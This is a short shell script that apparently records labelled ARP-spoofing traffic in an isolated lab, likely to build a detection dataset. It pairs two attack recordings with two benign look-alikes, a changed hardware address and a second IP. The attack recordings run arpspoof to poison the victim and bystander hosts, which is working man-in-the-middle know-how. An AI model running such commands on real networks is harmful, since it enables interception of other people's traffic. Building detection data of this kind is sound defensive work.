#!/bin/sh
# Recordings for arp_spoofing: see script/lab.

# arp-poisoned-both-ways: attack arp_spoofing arpspoof tells each of two hosts that it is the other
record_arp_poisoned_both_ways() {
    victim ping -q -c 2 "$BYSTANDER"
    attacker timeout 6 arpspoof -i lab0 -t "$VICTIM" -r "$BYSTANDER" || true
}

# arp-poisoned-silently: attack arp_spoofing arpspoof claims an address that nobody has, for one host
record_arp_poisoned_silently() {
    victim ping -q -c 1 -W 1 "$ATTACKER" || true
    attacker timeout 12 arpspoof -i lab0 -t "$VICTIM" 10.77.0.99 || true
}

# arp-replaced-card: benign arp_spoofing a host comes back with another hardware address
record_arp_replaced_card() {
    victim ping -q -c 2 "$BYSTANDER"
    bystander ip link set lab0 down
    bystander ip link set lab0 address 02:77:00:00:00:99
    bystander ip link set lab0 up
    bystander ping -q -c 2 "$VICTIM" || true
    victim ping -q -c 2 "$BYSTANDER"
}

# arp-second-address: benign arp_spoofing a host takes a second address, and others talk to both
record_arp_second_address() {
    bystander ip address add 10.77.0.50/24 dev lab0
    victim ping -q -c 2 "$BYSTANDER"
    victim ping -q -c 2 10.77.0.50
    bystander ip address del 10.77.0.50/24 dev lab0
}
